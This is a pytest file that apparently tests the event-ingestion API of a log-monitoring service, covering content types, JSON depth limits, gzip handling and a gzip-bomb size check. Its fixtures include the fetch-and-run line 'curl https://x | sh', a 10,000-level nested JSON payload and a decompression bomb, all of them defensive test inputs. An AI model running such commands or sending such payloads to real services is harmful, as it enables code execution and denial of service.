"""``POST /api/v1/events`` edge cases: the content type decides how the body is split, gzip is read
within the limit, depth is depth however deep, errors name JSON types (``service.api.events``)."""

from __future__ import annotations

import gzip
from pathlib import Path

import httpx

from service.metrics import REGISTRY
from tests.support.api import INGESTER, MATCHING, auth, build_api

NDJSON = "application/x-ndjson"


def rejected(reason: str) -> float:
    return REGISTRY.get_sample_value("pipesentry_messages_rejected_total", {"source": "http", "reason": reason}) or 0.0


def refused(reason: str) -> float:
    return REGISTRY.get_sample_value("pipesentry_http_requests_rejected_total", {"reason": reason}) or 0.0


async def post(client: httpx.AsyncClient, body: bytes, content_type: str | None = NDJSON,
               **headers: str) -> httpx.Response:
    sent = {**auth(INGESTER), **headers}
    if content_type is not None:
        sent["content-type"] = content_type
    return await client.post("/api/v1/events?category=ci_job_log", content=body, headers=sent)


def deep(levels: int) -> bytes:
    return b'{"a":' * levels + b"1" + b"}" * levels


async def test_ndjson_whose_first_line_is_an_array_is_read_line_by_line(tmp_path: Path) -> None:
    client, _, _ = build_api(tmp_path)
    async with client:
        response = await post(client, b'[{"message": "x"}]\n' + MATCHING + b"\n[1, 2]\n")
    assert response.status_code == 200
    answer = response.json()
    assert answer["accepted"] == 1 and len(answer["alerts"]) == 1
    assert [(r["index"], r["reason"]) for r in answer["rejected"]] == [(0, "not_object"), (2, "not_object")]
    assert answer["rejected"][0]["error"] == "expected a JSON object, got array"


async def test_error_messages_name_json_types(tmp_path: Path) -> None:
    client, _, _ = build_api(tmp_path)
    async with client:
        response = await post(client, b'null\n"text"\n12\ntrue\n')
    assert response.status_code == 400
    errors = [r["error"] for r in response.json()["rejected"]]
    assert errors == [f"expected a JSON object, got {kind}" for kind in ("null", "string", "number", "boolean")]


async def test_depth_ten_thousand_counts_as_depth_like_depth_one_hundred(tmp_path: Path) -> None:
    client, _, _ = build_api(tmp_path)
    async with client:
        before = rejected("depth"), rejected("decode")
        shallow = await post(client, deep(100) + b"\n")
        very = await post(client, deep(10_000) + b"\n")
        as_json = await post(client, deep(10_000), "application/json")
        array = await post(client, b"[" * 10_000 + b"]" * 10_000, "application/json")
    assert [r.status_code for r in (shallow, very, as_json, array)] == [400] * 4
    assert shallow.json()["rejected"][0]["reason"] == very.json()["rejected"][0]["reason"] == "depth"
    assert as_json.json()["reason"] == array.json()["reason"] == "depth"  # the body is the one document
    assert rejected("depth") == before[0] + 4 and rejected("decode") == before[1]


async def test_an_array_element_too_deep_to_re_encode_is_rejected_alone(tmp_path: Path) -> None:
    client, _, _ = build_api(tmp_path)
    body = b"[" + deep(400) + b"," + MATCHING + b"]"
    async with client:
        response = await post(client, body, "application/json")
    assert response.status_code == 200
    answer = response.json()
    assert answer["accepted"] == 1
    assert [(r["index"], r["reason"]) for r in answer["rejected"]] == [(0, "depth")]


async def test_application_json_takes_an_array_an_object_or_ndjson(tmp_path: Path) -> None:
    client, _, _ = build_api(tmp_path)
    pretty = b'{\n  "message": "curl https://x | sh",\n  "@timestamp": "2026-01-02T03:04:05Z"\n}\n'
    async with client:
        one = await post(client, pretty, "application/json; charset=utf-8")
        array = await post(client, b"[" + MATCHING + b"," + MATCHING + b"]", "application/json")
        lines = await post(client, MATCHING + b"\n" + MATCHING + b"\n", "application/json")
        scalar = await post(client, b'"x"', "application/json")
    assert one.status_code == 200 and one.json()["accepted"] == 1
    assert array.json()["accepted"] == 2 and lines.json()["accepted"] == 2
    assert scalar.status_code == 400 and "got string" in scalar.json()["detail"]


async def test_other_content_types_are_415(tmp_path: Path) -> None:
    client, _, _ = build_api(tmp_path)
    before = refused("unsupported_media_type")
    async with client:
        for kind in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
                     "application/xml"):
            response = await post(client, MATCHING, kind)
            assert response.status_code == 415, kind
            assert "application/x-ndjson" in response.json()["detail"]
        for kind in ("application/ndjson", "application/jsonl", "APPLICATION/X-NDJSON; charset=utf-8"):
            assert (await post(client, MATCHING, kind)).status_code == 200, kind
        assert (await post(client, MATCHING, None)).status_code == 200  # no type: sniffed as before
    assert refused("unsupported_media_type") == before + 4


async def test_text_plain_is_accepted_for_a_line_decoder(tmp_path: Path) -> None:
    client, _, _ = build_api(tmp_path, http_ingest={"decoder": {"type": "text"}})
    async with client:
        response = await post(client, b"curl https://x | sh\n", "text/plain")
    assert response.status_code == 200 and response.json()["accepted"] == 1


async def test_gzip_bodies_are_read(tmp_path: Path) -> None:
    client, _, _ = build_api(tmp_path)
    async with client:
        response = await post(client, gzip.compress(MATCHING + b"\n") + gzip.compress(MATCHING + b"\n"),
                              **{"content-encoding": "gzip"})
    assert response.status_code == 200
    alerts = response.json()["alerts"]
    assert response.json()["accepted"] == 2 and len({a["id"] for a in alerts}) == 1  # one event twice: one id


async def test_a_gzip_bomb_is_413_on_its_decompressed_size(tmp_path: Path) -> None:
    client, _, _ = build_api(tmp_path, http_ingest={"max_body_bytes": 1_048_576})
    bomb = gzip.compress(b"\n" * (64 * 1_048_576))  # 64 MiB of newlines in ~64 KiB
    assert len(bomb) < 1_048_576
    before = refused("too_large")
    async with client:
        response = await post(client, bomb, **{"content-encoding": "gzip"})
    assert response.status_code == 413
    assert "once decompressed" in response.json()["detail"]
    assert refused("too_large") == before + 1


async def test_unknown_or_corrupt_encodings(tmp_path: Path) -> None:
    client, _, _ = build_api(tmp_path)
    async with client:
        brotli = await post(client, MATCHING, **{"content-encoding": "br"})
        corrupt = await post(client, b"\x1f\x8b not gzip at all", **{"content-encoding": "gzip"})
        truncated = await post(client, gzip.compress(MATCHING)[:-12], **{"content-encoding": "gzip"})
        identity = await post(client, MATCHING, **{"content-encoding": "identity"})
    assert brotli.status_code == 415 and "'br'" in brotli.json()["detail"]
    assert corrupt.status_code == 400 and "corrupt" in corrupt.json()["detail"]
    assert truncated.status_code == 400
    assert identity.status_code == 200
